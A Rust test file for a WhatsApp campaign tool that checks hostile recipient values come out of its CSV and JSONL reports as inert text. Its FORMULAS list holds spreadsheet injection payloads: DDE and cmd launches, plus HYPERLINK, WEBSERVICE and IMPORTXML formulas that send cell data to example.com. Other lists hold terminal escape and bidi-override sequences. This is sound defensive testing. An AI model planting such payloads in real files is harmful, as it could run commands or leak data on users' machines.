//! Hostile cells of a recipients file: no spreadsheet runs them, no terminal obeys them, no line of JSON breaks. That no
//! browser runs them, `cli_page` looks at.

use tidings::report::csv::Writer;
use tidings::report::jsonl;
use tidings::report::line::Line;

use crate::harness::process::Ran;
use crate::harness::project::{GREETING, Project};

/// What a spreadsheet would run, or take for a number.
const FORMULAS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.com/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "−1",
    "=\u{202e}1+1",
    "=1+1\";=2+2",
    "--1",
    "+12025550101=1",
    "=@SUM(1)",
];

/// What may stand before it without a line break, so that it stands in one cell.
const CARRIERS: [&str; 26] = [
    "",
    " ",
    "   ",
    "\t",
    "\u{b}",
    "\u{c}",
    "\u{1b}[31m",
    "\u{7f}",
    "\u{85}",
    "\u{9b}2J",
    "\u{a0}",
    "\u{ad}",
    "\u{200b}",
    "\u{200e}",
    "\u{202e}",
    "\u{2060}",
    "\u{feff}",
    "\u{3000}",
    "\"",
    "'",
    "\" '",
    "x;",
    ";",
    "a; \t",
    "\u{2028}",
    "\u{1}",
];

/// Those that break lines, which only WhatsApp's words could hold.
const LINE_BREAKS: [&str; 4] = ["\r", "\n", "\r\n", "x\n"];

fn corpus<'a>(carriers: impl IntoIterator<Item = &'a &'a str>) -> Vec<String> {
    let carriers: Vec<&str> = carriers.into_iter().copied().collect();
    carriers.iter().flat_map(|carrier| FORMULAS.map(|formula| format!("{carrier}{formula}"))).collect()
}

fn is_obeyed_by_terminals(c: char) -> bool {
    c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Whether a spreadsheet takes a cell for text, wherever it splits and whatever it drops.
#[track_caller]
fn is_text(cell: &str) {
    assert!(!cell.contains(char::is_control), "{cell:?}");
    for part in cell.split([';', '\u{2028}', '\u{2029}']) {
        if part.starts_with('\'') {
            continue;
        }
        let dropped = |c: char| !c.is_alphanumeric() && !"=+-@＝＋－＠−`(<[{$%#&*,.:/\\|!?".contains(c);
        let rest = part.trim_start_matches(dropped);
        assert!(!rest.starts_with(|c| "=+-@＝＋－＠−".contains(c)), "{part:?} of {cell:?}");
    }
}

fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    let text = csv.strip_prefix(b"\xEF\xBB\xBF").expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    let records = reader.records().map(|record| record.expect("a record"));
    records.map(|record| record.iter().map(str::to_owned).collect()).collect()
}

#[track_caller]
fn is_calm(said: &str) {
    let harm = said.chars().find(|c| is_obeyed_by_terminals(*c) && !"\n\t".contains(*c));
    assert_eq!(harm, None, "{said:?}");
}

#[track_caller]
fn is_calm_json(text: &str) -> usize {
    for line in text.lines() {
        assert!(!line.contains(is_obeyed_by_terminals), "{line:?}");
        serde_json::from_str::<serde_json::Value>(line).unwrap_or_else(|error| panic!("{error}: {line}"));
    }
    text.lines().count()
}

/// Each value as somebody's phone, name and language, and as the name of somebody who gets a message.
fn project(values: &[String]) -> Project {
    let cell = |value: &String| format!("\"{}\"", value.replace('"', "\"\""));
    let rows: String = values
        .iter()
        .enumerate()
        .map(|(n, value)| {
            let (value, number) = (cell(value), crate::harness::people::number(n));
            format!("{value},Ann,en_US\n{number},{value},en_US\n{number},Ann,{value}\n")
        })
        .collect();
    Project::empty()
        .campaign(GREETING)
        .campaign_with(
            "recipients: people.csv",
            "recipients: { file: people.csv, on_invalid: skip, on_duplicate: first }",
        )
        .campaign_with("[en_US]", "[en_US, es_ES]")
        .recipients(format!("phone,first_name,language\n{rows}"))
}

#[test]
fn over_six_hundred_hostile_cells_go_through_a_campaign_as_text() {
    let values = corpus(&CARRIERS);
    assert!(values.len() >= 500, "{}", values.len());
    let project = project(&values);
    let ran = project.run(["--sandbox"]);
    let report = ran.code(0).report();
    assert_eq!(report.rows.len(), 3 * values.len());
    assert!(report.of("accepted").len() >= values.len() / 2, "{:?}", report.states());
    assert!(report.of("turned_away").len() >= values.len(), "{:?}", report.states());
    for row in cells(&report.bytes) {
        row.iter().for_each(|cell| is_text(cell));
    }
    let lines = std::fs::read_to_string(ran.report_directory().join("report.jsonl")).expect("report.jsonl");
    assert_eq!(is_calm_json(&lines), report.of("accepted").len());
    [&ran.stdout, &ran.stderr].into_iter().for_each(|said| is_calm(said));
}

#[test]
fn no_screen_is_moved_by_a_cell() {
    let values = corpus(&CARRIERS);
    let project = project(&values);
    let says = |Ran { stdout, stderr, .. }: Ran| {
        is_calm(&stdout);
        is_calm(&stderr);
        assert!(!(stdout + &stderr).is_empty());
    };
    says(project.preview([]));
    says(project.preview(["--json"]));
    for row in ["2", "3", "21", "210", "900", "1500"] {
        says(project.preview(["--row", row]));
        says(project.preview(["--row", row, "--json"]));
    }
    let strict = project.campaign_with(", on_invalid: skip, on_duplicate: first", "");
    says(strict.tidings(["check", "campaign.yaml"]));
    says(strict.tidings(["preview", "campaign.yaml"]));
    says(strict.tidings(["check", "\u{1b}[2J\u{202e}.yaml"]));
}

#[test]
fn whatever_whatsapp_says_is_text_in_every_column() {
    let values = corpus(CARRIERS.iter().chain(&LINE_BREAKS));
    let mut table = Vec::new();
    let mut writer = Writer::new(&mut table).expect("a table");
    let mut lines = Vec::new();
    for value in &values {
        let line = Line {
            row: 2,
            recipient: value.into(),
            template: Some(value),
            language: Some(value),
            state: "refused",
            reason: Some(value.into()),
            code: Some(-1),
            wamid: Some(value),
            attempts: 1,
            first_attempt_at: None,
            settled_at: None,
            delivery: Some(value),
            delivery_at: Some(value.clone()),
            message_key: Some(value.clone()),
        };
        writer.add(&line).expect("a line");
        jsonl::add(&mut lines, &line).expect("a line");
    }
    writer.finish().expect("a table");
    let rows = cells(&table);
    assert_eq!(rows.len(), values.len() + 1);
    for row in &rows[1..] {
        // A code is a number of WhatsApp's, and no text.
        row.iter().enumerate().filter(|(column, _)| *column != 6).for_each(|(_, cell)| is_text(cell));
    }
    let lines = String::from_utf8(lines).expect("UTF-8");
    assert_eq!(is_calm_json(&lines), values.len());
    for (line, value) in lines.lines().zip(&values) {
        let line: serde_json::Value = serde_json::from_str(line).expect("JSON");
        assert_eq!(line["recipient"], **value, "nothing is lost");
    }
}
